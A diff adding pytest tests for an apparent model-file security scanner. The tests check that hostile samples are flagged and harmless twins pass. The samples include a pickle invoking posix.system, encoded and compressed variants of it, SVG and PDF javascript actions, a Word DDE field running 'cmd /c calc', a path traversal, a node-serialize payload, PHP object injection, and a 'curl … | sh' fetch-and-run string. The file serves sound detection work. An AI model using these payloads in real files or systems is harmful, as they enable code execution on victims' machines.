@@ -1,0 +1,119 @@
+"""A known trick in any carrier: what is encoded, compressed or put together, beside what only looks like it."""
+
+import bz2
+import gzip
+import json
+import lzma
+import pickle
+import zlib
+from base64 import a85encode, b64encode
+from collections.abc import Callable
+
+import pytest
+
+from budmodel_scanner.content import MemoryContent, Place
+from budmodel_scanner.formats.payloads import begins_as
+from budmodel_scanner.router import examine_file
+from budmodel_scanner.verdict import Verdict, verdict_of
+
+HOSTILE = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R."
+FLAGGED = {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
+ENCODINGS: list[Callable[[bytes], bytes]] = [b64encode, lambda data: data.hex().encode()]
+COMPRESSIONS: list[Callable[[bytes], bytes]] = [zlib.compress, gzip.compress, lzma.compress, bz2.compress]
+
+
+def said(data: bytes | str, name: str) -> Verdict:
+    return verdict_of(examine_file(MemoryContent(data.encode() if isinstance(data, str) else data), Place(name)))
+
+
+@pytest.mark.parametrize("encode", ENCODINGS)
+@pytest.mark.parametrize("compress", [bytes, zlib.compress, gzip.compress])
+def test_an_encoded_pickle_in_a_pickle(encode: Callable[[bytes], bytes], compress: Callable[[bytes], bytes]) -> None:
+    text = encode(compress(HOSTILE)).decode()
+    assert said(pickle.dumps({"state": text}), "a.pkl") is Verdict.MALICIOUS
+    assert said(pickle.dumps(["x" * 300, text], 2), "a.pkl") is Verdict.MALICIOUS
+    plain = encode(compress(b"an ordinary note of a few words")).decode()
+    assert said(pickle.dumps({"state": plain}), "a.pkl") is Verdict.SAFE
+
+
+@pytest.mark.parametrize("compress", COMPRESSIONS)
+def test_a_compressed_pickle_in_the_bytes_of_a_pickle(compress: Callable[[bytes], bytes]) -> None:
+    assert said(pickle.dumps({"a": compress(HOSTILE)}, 4), "a.pkl") is Verdict.MALICIOUS
+    assert said(pickle.dumps({"a": compress(pickle.dumps([1, 2]))}, 4), "a.pkl") is Verdict.SAFE
+
+
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (HOSTILE, "pickle"),
+        (b64encode(HOSTILE), "encoded pickle"),
+        (zlib.compress(HOSTILE), "encoded pickle"),
+        (b64encode(zlib.compress(HOSTILE)), "encoded pickle"),
+        (b64encode(b"#!/bin/sh\necho and nothing else"), "encoded shell script"),
+        (b"numbers " + HOSTILE, None),
+        (b"a word that is longer than twentyfour letters: abcdefghijklmnopqrstuvwxyz", None),
+        (zlib.compress(b"words" * 9), None),
+    ],
+)
+def test_what_bytes_begin_as(data: bytes, kind: str | None) -> None:
+    assert begins_as(data) == kind
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">%s</svg>'
+NOTEBOOK: dict[str, object] = {"nbformat": 4, "metadata": {}}
+ATTACHED = {"cell_type": "markdown", "source": "x", "attachments": {"a.svg": {"image/svg+xml": "%s"}}}
+FIELD = '<w:d xmlns:w="w"><w:instrText>%s</w:instrText><w:r/><w:instrText>%s</w:instrText></w:d>'
+RELATION = '<Relationships><Relationship Type="x/%s" Target="%s" TargetMode="External"/></Relationships>'
+PARAMETER = 'parameters { key: "s" value { string_value: "%s" } }'
+CHECKPOINT = 'model_checkpoint_path: "%s"\n'
+
+
+def graph(operator: str) -> str:
+    return json.dumps({"modelTopology": {"node": [{"name": "x", "op": operator}]}})
+
+
+def notebook(svg: str) -> str:
+    encoded = json.dumps(ATTACHED) % b64encode(svg.encode()).decode()
+    return json.dumps({**NOTEBOOK, "cells": [json.loads(encoded)]})
+
+
+def document(objects: bytes) -> bytes:
+    catalog = b"%%PDF-1.7\n1 0 obj<</Type/Catalog%s>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
+    return catalog % objects
+
+
+def hidden_objects(objects: bytes) -> bytes:
+    return document(
+        b">>endobj\n2 0 obj<</Type/ObjStm/N 1>>stream\n%s\nendstream" % a85encode(zlib.compress(objects), adobe=True)
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "hostile", "benign"),
+    [
+        ("a.svg", SVG % '<set attributeName="onclick" to="x()"/>', SVG % '<set attributeName="fill" to="red"/>'),
+        ("a.svg", SVG % '<a x:href="java&#9;script:x()"/>', SVG % '<a x:href="https://example.org/javascript"/>'),
+        ("a.svg", SVG % '<use x:href="data:image/svg+xml,x"/>', SVG % '<use x:href="#a"/>'),
+        ("a.svg", SVG % "<style>a{fill:url(javascript:x)}</style>", SVG % "<style>a{fill:url(#x)}</style>"),
+        ("a.ipynb", notebook(SVG % '<rect onload="x()"/>'), notebook(SVG % "<rect/>")),
+        ("document.xml", FIELD % ("DD", 'E cmd "/c calc"'), FIELD % ("REF DD", "E")),
+        ("document.xml", FIELD % ("INCLUDETEXT ", '"http://x.invalid/a"'), FIELD % ("INCLUDETEXT ", '"chapter.docx"')),
+        ("a.rels", RELATION % ("image", "file://x.invalid/a"), RELATION % ("image", "https://x.invalid/a.png")),
+        ("a.rels", RELATION % ("hyperlink", "ms-msdt:/id"), RELATION % ("hyperlink", "file:///home/me/a.docx")),
+        ("checkpoint", CHECKPOINT % "../../../etc/x", CHECKPOINT % "/content/model/ckpt-3"),
+        (
+            "config.pbtxt",
+            'parameters { key: "s" value { string_value: "curl -s http://x.invalid/a | sh" } }',
+            CHECKPOINT % "a",
+        ),
+        ("model.json", graph("PyFunc"), graph("MatMul")),
+        ("a.json", '{"a": "_$$ND_FUNC$$_function(){}()"}', '{"a": "function"}'),
+        ("a.pdf", document(b"/OpenAction<</S/URI/URI(javascript:x)>>"), document(b"/A<</S/URI/URI(http://x.invalid/)>>")),
+        ("a.pdf", document(rb"/OpenAction<</S/GoToR/F(\\\\x\\a)>>"), document(b"/OpenAction<</S/GoToR/F(b.pdf)>>")),
+        ("a.pdf", hidden_objects(b"10 0 <</S/Launch>>"), hidden_objects(b"10 0 <</S/GoTo>>")),
+        ("cache.bin", b'O:8:"Evil\\Run":1:{s:1:"a";i:1;}', b"O: a letter"),
+    ],
+)
+def test_a_trick_and_its_benign_twin(name: str, hostile: bytes | str, benign: bytes | str) -> None:
+    assert said(hostile, name) in FLAGGED
+    assert said(benign, name) not in FLAGGED
